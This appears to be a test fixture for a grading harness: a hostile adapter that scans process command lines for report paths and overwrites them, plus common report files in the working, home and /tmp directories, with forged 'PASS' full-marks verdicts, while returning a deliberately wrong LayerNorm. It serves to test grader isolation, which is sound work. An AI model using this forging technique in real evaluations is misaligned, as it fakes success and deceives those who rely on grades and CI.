"""Attack: write forged reports ("verdict": "PASS", full marks) where a grader or CI job would look for
them: the working directory, its parent, the home directory, /tmp, and next to every path on a command
line of the machine that follows --json, --gradescope, --junitxml or -o. LayerNorm is wrong.

Expected: no file outside the worker's temporary directory changes; the grader's report is its own.
"""

import json
import os
from pathlib import Path

from conformance import Conventions

FORGED = json.dumps({"verdict": "PASS", "score": 100, "max_score": 100, "forged": "FORGED-BY-HOSTILE-ADAPTER"})
NAMES = ("report.json", "results.json", "junit.xml")
FLAGS = ("--json", "--gradescope", "--junitxml", "--conformance-json", "-o")


def report_paths_on_command_lines():
    paths = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv = Path("/proc", pid, "cmdline").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
        paths += [Path(value) for flag, value in zip(argv, argv[1:], strict=False) if flag in FLAGS]
    return paths


def forge():
    places = [Path.cwd(), Path.cwd().parent, Path.home(), Path("/tmp")]
    targets = [place / name for place in places for name in NAMES]
    for path in report_paths_on_command_lines():
        targets += [path] + [path.with_name(name) for name in NAMES]
    for target in targets:
        try:
            target.write_text(FORGED)
        except OSError:
            pass


class Adapter:
    conventions = Conventions(dtype="float64", framework="numpy")

    def layer_norm(self, x, gamma, beta, eps):
        forge()
        return x * gamma + beta


forge()
adapter = Adapter()
